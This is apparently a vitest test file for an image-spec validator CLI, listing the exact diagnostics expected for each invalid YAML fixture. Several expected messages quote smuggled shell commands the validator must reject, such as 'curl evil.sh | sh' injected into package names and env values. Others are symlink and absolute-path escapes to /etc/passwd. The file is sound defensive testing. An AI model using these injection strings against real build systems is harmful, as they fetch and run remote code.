/**
 * Every spec fixture, valid and invalid, with the exact diagnostics (line, column, message) it must give,
 * checked three ways: the spec stage (loadSpecFile / checkSpecFile), the JSON Schema alone (ajv), and
 * `imagespec validate` through the CLI's main().
 */
import { readdirSync } from 'node:fs';
import { join, resolve } from 'node:path';
import { afterEach, describe, expect, it, vi } from 'vitest';
import { main } from '../../src/cli.js';
import { UserError } from '../../src/errors.js';
import {
  checkSpecFile,
  loadSpecFile,
  readSpecFile,
  repositoryRoot,
  schemaValidator,
  toJson,
} from '../../src/spec/index.js';

const FIXTURES = resolve(import.meta.dirname, '../fixtures/spec');
const VALID = join(FIXTURES, 'valid');
const INVALID = join(FIXTURES, 'invalid');

/**
 * `load`: the YAML does not load. `schema`: the JSON Schema rejects the file (where the semantic checks
 * have a better message for the same problem, theirs is printed, once). `semantic`: a rule no JSON
 * Schema can express, listed in SCHEMA_CANNOT with the reason.
 */
type Kind = 'load' | 'schema' | 'semantic';

/** Invalid fixtures the JSON Schema accepts, and why a schema cannot catch them. */
const SCHEMA_CANNOT: Record<string, string> = {
  'build-context-file.yaml': 'file system: the path is a file, not a directory',
  'copy-missing.yaml': 'file system: the file does not exist',
  'copy-symlink-outside.yaml': 'file system: a symbolic link resolves outside the repository',
  'cycle.yaml': 'graph: base_image references between images form a cycle',
  'dockerfile-missing.yaml': 'file system: the file does not exist',
  'dockerignore-missing.yaml': 'file system: the file does not exist',
  'image-key-as-name.yaml': "cross-field: a value's schema cannot see its key in images:",
  'key-reads-as-bool.yaml':
    'YAML typing: JSON has only string keys; the key is True before the schema sees it',
  'lock-without-pyproject.yaml': 'file system: no pyproject.toml next to the lock file',
  'missing-base.yaml': 'cross-image: base_image names no key of images:',
  'requirements-broken-link.yaml': 'file system: a broken symbolic link',
  'requirements-directory.yaml': 'file system: the path is a directory',
  'requirements-missing.yaml': 'file system: the file does not exist',
  'requirements-symlink-outside.yaml': 'file system: a symbolic link resolves outside the repository',
  'secrets-duplicate-id.yaml':
    'uniqueness of one property across list items (uniqueItems compares whole items)',
  'self-base.yaml': "cross-field: a value's schema cannot see its key in images:",
  'source-root-file.yaml': 'file system: the path is a file, not a directory',
};
/** `<ROOT>` in a message stands for the repository root. */
const EXPECTED: Record<string, { kind: Kind; diagnostics: Array<[number, number, string]> }> = {
  'apt-injection.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        2,
        16,
        'apt_packages[0] must be an apt package name, optionally with =VERSION or /RELEASE (letters, digits, + . : = ~ _ / * -); got "git && curl evil.sh | sh"',
      ],
    ],
  },
  'base-image-invalid.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        2,
        13,
        'base_image "Python:3.11" is not a valid image reference (repository names must be lowercase); write NAME[:TAG][@DIGEST], e.g. "python:3.11-slim"',
      ],
    ],
  },
  'build-args-without-dockerfile.yaml': {
    kind: 'schema',
    diagnostics: [
      [2, 1, 'build_args only applies to a Dockerfile build; add dockerfile: PATH or remove build_args'],
    ],
  },
  'build-context-file.yaml': {
    kind: 'semantic',
    diagnostics: [[3, 16, 'build_context "Dockerfile" is not a directory; give a directory']],
  },
  'comments-only.yaml': {
    kind: 'load',
    diagnostics: [[1, 1, 'the spec file is empty; write the image fields, e.g. "name: my-image"']],
  },
  'copy-absolute.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        2,
        8,
        'copy[0] "/etc/passwd" is absolute; give a path relative to the spec file (it is copied to /root/<path>)',
      ],
    ],
  },
  'copy-dotdot.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        2,
        8,
        'copy[0] "../valid/requirements.txt" contains ".."; copy entries must stay below the spec file\'s directory (it is copied to /root/<path>)',
      ],
    ],
  },
  'copy-missing.yaml': {
    kind: 'semantic',
    diagnostics: [
      [4, 5, 'copy[1] "data/missing.json" does not exist; paths are relative to the spec file\'s directory'],
    ],
  },
  'copy-symlink-outside.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        2,
        8,
        'copy[0] "outside-link" resolves outside the repository (/etc/passwd); keep referenced files inside <ROOT>',
      ],
    ],
  },
  'custom-tag.yaml': {
    kind: 'load',
    diagnostics: [
      [
        1,
        15,
        "the tag !custom is not one PyYAML's safe_load knows; PyYAML's safe_load fails on it, remove the tag",
      ],
    ],
  },
  'cycle.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        3,
        17,
        'images build on each other in a cycle: a -> b -> c -> a; make one of them start from a registry image',
      ],
      [
        5,
        17,
        'images build on each other in a cycle: a -> b -> c -> a; make one of them start from a registry image',
      ],
      [
        7,
        17,
        'images build on each other in a cycle: a -> b -> c -> a; make one of them start from a registry image',
      ],
    ],
  },
  'dockerfile-missing.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        2,
        13,
        'dockerfile "docker/Dockerfile" does not exist; paths are relative to the spec file\'s directory',
      ],
    ],
  },
  'dockerfile-with-packages.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        3,
        1,
        'packages cannot be combined with dockerfile (the Dockerfile defines the image contents); move it into the Dockerfile, or into a second image whose base_image is this one',
      ],
    ],
  },
  'dockerignore-missing.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        3,
        15,
        'dockerignore ".dockerignore" does not exist; paths are relative to the spec file\'s directory',
      ],
    ],
  },
  'duplicate-key.yaml': {
    kind: 'load',
    diagnostics: [
      [3, 1, 'duplicate key name; remove one of them (PyYAML would silently keep only the last)'],
    ],
  },
  'empty.yaml': {
    kind: 'load',
    diagnostics: [[1, 1, 'the spec file is empty; write the image fields, e.g. "name: my-image"']],
  },
  'env-bad-key.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        3,
        3,
        'env key "MY-VAR" must be a valid environment variable name: letters, digits and _, not starting with a digit',
      ],
    ],
  },
  'env-bool-value.yaml': {
    kind: 'schema',
    diagnostics: [
      [3, 10, 'env.DEBUG must be a string; write "yes" (unquoted, yes reads as the boolean True)'],
    ],
  },
  'env-date-value.yaml': {
    kind: 'schema',
    diagnostics: [
      [3, 12, 'env.RELEASE must be a string; write "2024-01-15" (unquoted, 2024-01-15 reads as a date)'],
    ],
  },
  'env-newline-value.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        3,
        13,
        'env.GREETING must not contain newlines or control characters; got "hello\\nRUN curl evil.sh | sh"',
      ],
    ],
  },
  'env-octal-value.yaml': {
    kind: 'schema',
    diagnostics: [
      [3, 10, 'env.UMASK must be a string; write "0755" (unquoted, 0755 reads as the number 493)'],
    ],
  },
  'env-sexagesimal-value.yaml': {
    kind: 'schema',
    diagnostics: [
      [3, 12, 'env.TIMEOUT must be a string; write "1:30" (unquoted, 1:30 reads as the number 90)'],
    ],
  },
  'image-key-as-name.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        2,
        3,
        'image key "My__App--" is used as the image name but is not a valid one; add name: with letters, digits and single . _ - separators',
      ],
    ],
  },
  'images-bad-key.yaml': {
    kind: 'schema',
    diagnostics: [
      [2, 3, 'images key "_private" must be an image key: letters, digits, _ . - (not starting with _ . -)'],
    ],
  },
  'images-empty.yaml': {
    kind: 'schema',
    diagnostics: [[1, 9, 'images must name at least one image, e.g. "images: {app: {name: app}}"']],
  },
  'images-with-top-level-field.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        1,
        1,
        'unknown top-level field "name" next to images:; with an images: map, put image fields inside each image',
      ],
    ],
  },
  'invalid-date.yaml': {
    kind: 'load',
    diagnostics: [
      [
        3,
        8,
        "'2023-02-30' is not a valid date; PyYAML's safe_load fails on it, quote the value to make it a string",
      ],
    ],
  },
  'key-reads-as-bool.yaml': {
    kind: 'semantic',
    diagnostics: [[3, 3, 'key on reads as the boolean True, not a string; quote it: "on"']],
  },
  'label-newline.yaml': {
    kind: 'schema',
    diagnostics: [
      [3, 16, 'labels["org.example"] must not contain newlines or control characters; got "a\\nb"'],
    ],
  },
  'line-separators.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        2,
        12,
        'packages[0] must be a single line without control characters (newline, tab, NUL); got "numpy\\u2028RUN id"',
      ],
      [
        3,
        16,
        'apt_packages[0] must be an apt package name, optionally with =VERSION or /RELEASE (letters, digits, + . : = ~ _ / * -); got "git\\u0085RUN id"',
      ],
      [5, 6, 'env.A must not contain newlines or control characters; got "x\\u2029y"'],
    ],
  },
  'lock-with-packages.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        3,
        1,
        'packages cannot be combined with a uv.lock requirements file (the lock file is installed exactly); add the packages to pyproject.toml and re-lock, or use a requirements.txt',
      ],
    ],
  },
  'lock-without-pyproject.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        2,
        15,
        'requirements is a uv.lock, which needs a pyproject.toml next to it; add nopyproject/pyproject.toml',
      ],
    ],
  },
  'many-problems.yaml': {
    kind: 'schema',
    diagnostics: [
      [2, 17, 'python_version must be a string; write "3.10" (unquoted, 3.10 reads as the number 3.1)'],
      [3, 1, 'unknown field "apt_package"; did you mean "apt_packages"?'],
      [
        5,
        8,
        'copy[0] "/abs/path" is absolute; give a path relative to the spec file (it is copied to /root/<path>)',
      ],
      [6, 13, 'tag_format must contain {spec_hash}, e.g. "{spec_hash}-dev"; got "latest"'],
      [8, 9, 'env.PORT must be a string; write "8080" (unquoted, 8080 reads as a number)'],
    ],
  },
  'merge-scalar.yaml': {
    kind: 'load',
    diagnostics: [[3, 7, 'a merge key (<<) takes a mapping or a list of mappings']],
  },
  'missing-base.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        5,
        17,
        'images.app.base_image "bse" names no image of this file (images: base, app); did you mean "base"? for a registry image, write it with a tag, e.g. "bse:latest"',
      ],
    ],
  },
  'multi-document.yaml': {
    kind: 'load',
    diagnostics: [
      [
        2,
        1,
        'a spec file holds one YAML document; remove the second document (after "---") or use an images: map for several images',
      ],
    ],
  },
  'name-invalid.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        1,
        7,
        'name must be a valid image name: letters, digits and single . _ __ or - separators, path parts separated by /, e.g. "my-app" or "team/my-app"; got "my app"',
      ],
    ],
  },
  'name-null.yaml': {
    kind: 'schema',
    diagnostics: [[1, 6, 'name must be a string; it is empty; give a value or remove the line']],
  },
  'nested-error-path.yaml': {
    kind: 'schema',
    diagnostics: [
      [3, 15, 'images.app.packages must be a list; write it as a list: ["numpy"]'],
      [
        4,
        21,
        'images.app.python_version must be a string; write "3.10" (unquoted, 3.10 reads as the number 3.1)',
      ],
    ],
  },
  'package-newline.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        2,
        12,
        'packages[0] must be a single line without control characters (newline, tab, NUL); got "numpy\\nRUN curl evil.sh | sh"',
      ],
    ],
  },
  'packages-number-item.yaml': {
    kind: 'schema',
    diagnostics: [
      [4, 5, 'packages[1] must be a string; write "1.10" (unquoted, 1.10 reads as the number 1.1)'],
    ],
  },
  'packages-string.yaml': {
    kind: 'schema',
    diagnostics: [[2, 11, 'packages must be a list; write it as a list: ["numpy"]']],
  },
  'pip-secret-mounts-single.yaml': {
    kind: 'schema',
    diagnostics: [
      [3, 5, 'pip_secret_mounts[0] must be a pair [SOURCE, TARGET], e.g. [.netrc, /root/.netrc]'],
    ],
  },
  'platform-format.yaml': {
    kind: 'schema',
    diagnostics: [[2, 11, 'platform "amd64" is not OS/ARCH[/VARIANT]; did you mean "linux/amd64"?']],
  },
  'platform-unknown-arch.yaml': {
    kind: 'schema',
    diagnostics: [
      [2, 11, 'platform "linux/amd46" has an unknown architecture "amd46"; did you mean "linux/amd64"?'],
    ],
  },
  'python-installer-unknown.yaml': {
    kind: 'schema',
    diagnostics: [[2, 19, 'python_installer must be one of uv, pip; got "conda"']],
  },
  'python-version-float.yaml': {
    kind: 'schema',
    diagnostics: [
      [2, 17, 'python_version must be a string; write "3.10" (unquoted, 3.10 reads as the number 3.1)'],
    ],
  },
  'registry-bad-path.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        2,
        11,
        'registry "ghcr.io/-org" does not form a valid image name with name ("ghcr.io/-org/app": repository path components are lowercase letters and digits separated by ".", "_", "__" or "-"); write a host[:port] and path, e.g. "ghcr.io/my-org"',
      ],
    ],
  },
  'registry-invalid.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        2,
        11,
        'registry must look like "ghcr.io/my-org", "docker.io/user" or "localhost:5000"; got "ghcr.io/my org"',
      ],
    ],
  },
  'requirements-broken-link.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        2,
        15,
        'requirements "broken-link" is a broken symbolic link; point it at an existing file or remove it',
      ],
    ],
  },
  'requirements-directory.yaml': {
    kind: 'semantic',
    diagnostics: [[2, 15, 'requirements "dir.txt" is a directory; give a file']],
  },
  'requirements-missing.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        2,
        15,
        'requirements "requirements-dev.txt" does not exist; paths are relative to the spec file\'s directory',
      ],
    ],
  },
  'requirements-symlink-outside.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        2,
        15,
        'requirements "req-outside.txt" resolves outside the repository (/etc/passwd); keep referenced files inside <ROOT>',
      ],
    ],
  },
  'secrets-duplicate-id.yaml': {
    kind: 'semantic',
    diagnostics: [[4, 10, 'secret id "tok" is used twice; give each secret its own id']],
  },
  'secrets-env-and-src.yaml': {
    kind: 'schema',
    diagnostics: [[3, 5, 'secrets[0] needs exactly one of env (an environment variable) or src (a file)']],
  },
  'secrets-missing-id.yaml': {
    kind: 'schema',
    diagnostics: [[3, 5, 'secrets[0] needs id']],
  },
  'self-base.yaml': {
    kind: 'semantic',
    diagnostics: [
      [
        3,
        17,
        'images.a.base_image names this image itself; give a registry image or another image of the file',
      ],
    ],
  },
  'source-copy-mode-no-root.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        2,
        19,
        'source_copy_mode needs source_root (the directory to copy from); add source_root: . or remove source_copy_mode',
      ],
    ],
  },
  'source-copy-mode-typo.yaml': {
    kind: 'schema',
    diagnostics: [
      [3, 19, 'source_copy_mode must be one of loaded_modules, all, no_copy; got "al"; did you mean "all"?'],
    ],
  },
  'source-root-file.yaml': {
    kind: 'semantic',
    diagnostics: [[2, 14, 'source_root "requirements.txt" is not a directory; give a directory']],
  },
  'syntax-error.yaml': {
    kind: 'load',
    diagnostics: [
      [
        3,
        1,
        'YAML syntax error: Flow sequence in block collection must be sufficiently indented and end with a ]',
      ],
    ],
  },
  'tab-indent.yaml': {
    kind: 'load',
    diagnostics: [[2, 1, 'YAML syntax error: Tabs are not allowed as indentation']],
  },
  'tag-format-no-hash.yaml': {
    kind: 'schema',
    diagnostics: [[2, 13, 'tag_format must contain {spec_hash}, e.g. "{spec_hash}-dev"; got "dev"']],
  },
  'tag-format-unknown-field.yaml': {
    kind: 'schema',
    diagnostics: [
      [
        2,
        13,
        'tag_format may only use {spec_hash}; {branch} is unknown (write {{ and }} for literal braces)',
      ],
    ],
  },
  'top-level-list.yaml': {
    kind: 'load',
    diagnostics: [
      [
        1,
        1,
        'the spec file is not a mapping (it reads as a list); write the image fields as "key: value" lines, e.g. "name: my-image"',
      ],
    ],
  },
  'top-level-scalar.yaml': {
    kind: 'load',
    diagnostics: [
      [
        1,
        1,
        'the spec file is not a mapping (it reads as "hello"); write the image fields as "key: value" lines, e.g. "name: my-image"',
      ],
    ],
  },
  'undefined-alias.yaml': {
    kind: 'load',
    diagnostics: [[1, 7, 'unknown alias *nope; define the anchor &nope first']],
  },
  'unknown-field-no-suggestion.yaml': {
    kind: 'schema',
    diagnostics: [[2, 1, 'unknown field "colour"; see docs/spec.md for the fields']],
  },
  'unknown-field.yaml': {
    kind: 'schema',
    diagnostics: [[2, 1, 'unknown field "apt_package"; did you mean "apt_packages"?']],
  },
};

const yamlFiles = (dir: string) =>
  readdirSync(dir)
    .filter((f) => f.endsWith('.yaml'))
    .sort();
const validFiles = yamlFiles(VALID);

/** Valid flytekit specs that get a tag but cannot be built here, with what validate says about them. */
const CUDA_FIX =
  'use a base_image with CUDA (e.g. "nvidia/cuda:12.1.1-runtime-ubuntu22.04"), or conda packages from the nvidia channel';
const TAG_ONLY: Record<string, Array<[number, number, string]>> = {
  'flytekit-all-fields.yaml': [
    [
      17,
      7,
      `cuda is not supported by this builder (as in flytekit's default builder); ${CUDA_FIX}, and remove cuda`,
    ],
    [
      18,
      8,
      `cudnn is not supported by this builder (as in flytekit's default builder); ${CUDA_FIX}, and remove cudnn`,
    ],
  ],
};
const invalidFiles = yamlFiles(INVALID);
const root = await repositoryRoot(FIXTURES);

async function runCli(args: string[]): Promise<{ code: number; stdout: string; stderr: string }> {
  let stdout = '';
  let stderr = '';
  vi.spyOn(process.stdout, 'write').mockImplementation((chunk: string | Uint8Array) => {
    stdout += String(chunk);
    return true;
  });
  vi.spyOn(process.stderr, 'write').mockImplementation((chunk: string | Uint8Array) => {
    stderr += String(chunk);
    return true;
  });
  try {
    const code = await main(args);
    return { code, stdout, stderr };
  } finally {
    vi.restoreAllMocks();
  }
}

afterEach(() => {
  vi.restoreAllMocks();
});

describe('spec fixtures', () => {
  it('lists exactly the semantic fixtures as the ones a schema cannot express', () => {
    const semantic = Object.keys(EXPECTED).filter((k) => EXPECTED[k]!.kind === 'semantic');
    expect(semantic.sort()).toEqual(Object.keys(SCHEMA_CANNOT).sort());
  });

  it('has at least 60 fixtures, and an expectation for every invalid one', () => {
    expect(validFiles.length + invalidFiles.length).toBeGreaterThanOrEqual(60);
    expect(invalidFiles).toEqual(Object.keys(EXPECTED).sort());
  });

  describe.each(validFiles.filter((f) => !(f in TAG_ONLY)))('valid/%s', (name) => {
    const file = join(VALID, name);
    it('loads without diagnostics', async () => {
      const spec = await loadSpecFile(file);
      expect(spec.file).toBe(file);
      expect(spec.images.length).toBeGreaterThan(0);
    });
    it('is accepted by the JSON Schema alone', async () => {
      const { doc } = await readSpecFile(file);
      expect(doc).toBeDefined();
      const validate = schemaValidator();
      expect(validate(toJson(doc!.value)), JSON.stringify(validate.errors)).toBe(true);
    });
    it('imagespec validate exits 0 and confirms on stdout', async () => {
      const { code, stdout, stderr } = await runCli(['validate', file]);
      expect(stderr).toBe('');
      expect(code).toBe(0);
      expect(stdout).toMatch(
        new RegExp(`^${file.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}: valid \\(\\d+ images?: `),
      );
    });
  });

  describe.each(Object.keys(TAG_ONLY))('valid/%s (tags only)', (name) => {
    const file = join(VALID, name);
    it('loads in the hash mode (tag, explain) without diagnostics', async () => {
      const spec = await loadSpecFile(file, { mode: 'hash' });
      expect(spec.images.length).toBeGreaterThan(0);
    });
    it('is refused for a build with exactly the expected diagnostics', async () => {
      const { diagnostics } = await checkSpecFile(file);
      expect(diagnostics.map((d) => [d.line, d.col, d.message])).toEqual(TAG_ONLY[name]);
    });
  });

  describe.each(invalidFiles)('invalid/%s', (name) => {
    const file = join(INVALID, name);
    const expected = EXPECTED[name]!;
    const messages = expected.diagnostics.map(([line, col, message]) => ({
      line,
      col,
      message: message.replaceAll('<ROOT>', root),
    }));

    it('reports every problem with line, column and message', async () => {
      const { spec, diagnostics } = await checkSpecFile(file);
      expect(spec).toBeUndefined();
      expect(diagnostics.map((d) => ({ line: d.line, col: d.col, message: d.message }))).toEqual(messages);
      for (const d of diagnostics) expect(d.file).toBe(file);
    });

    it('loadSpecFile throws a UserError carrying the diagnostics', async () => {
      const err = await loadSpecFile(file).then(
        () => undefined,
        (e: unknown) => e,
      );
      expect(err).toBeInstanceOf(UserError);
      expect((err as UserError).diagnostics).toHaveLength(messages.length);
    });

    if (expected.kind === 'load') {
      it('fails while reading the YAML', async () => {
        const { doc, diagnostics } = await readSpecFile(file);
        expect(doc).toBeUndefined();
        expect(diagnostics.length).toBeGreaterThan(0);
      });
    } else {
      it(
        expected.kind === 'schema'
          ? 'is rejected by the JSON Schema alone'
          : 'passes the JSON Schema (a semantic check catches it)',
        async () => {
          const { doc } = await readSpecFile(file);
          expect(doc).toBeDefined();
          expect(schemaValidator()(toJson(doc!.value))).toBe(expected.kind !== 'schema');
        },
      );
    }

    it('imagespec validate prints FILE:LINE:COL: error: MESSAGE on stderr and exits 1', async () => {
      const { code, stdout, stderr } = await runCli(['validate', file]);
      expect(code).toBe(1);
      expect(stdout).toBe('');
      const lines = stderr.trimEnd().split('\n');
      expect(lines.slice(0, messages.length)).toEqual(
        messages.map((m) => `${file}:${m.line}:${m.col}: error: ${m.message}`),
      );
      expect(stderr).not.toMatch(/\n\s+at /);
    });
  });
});
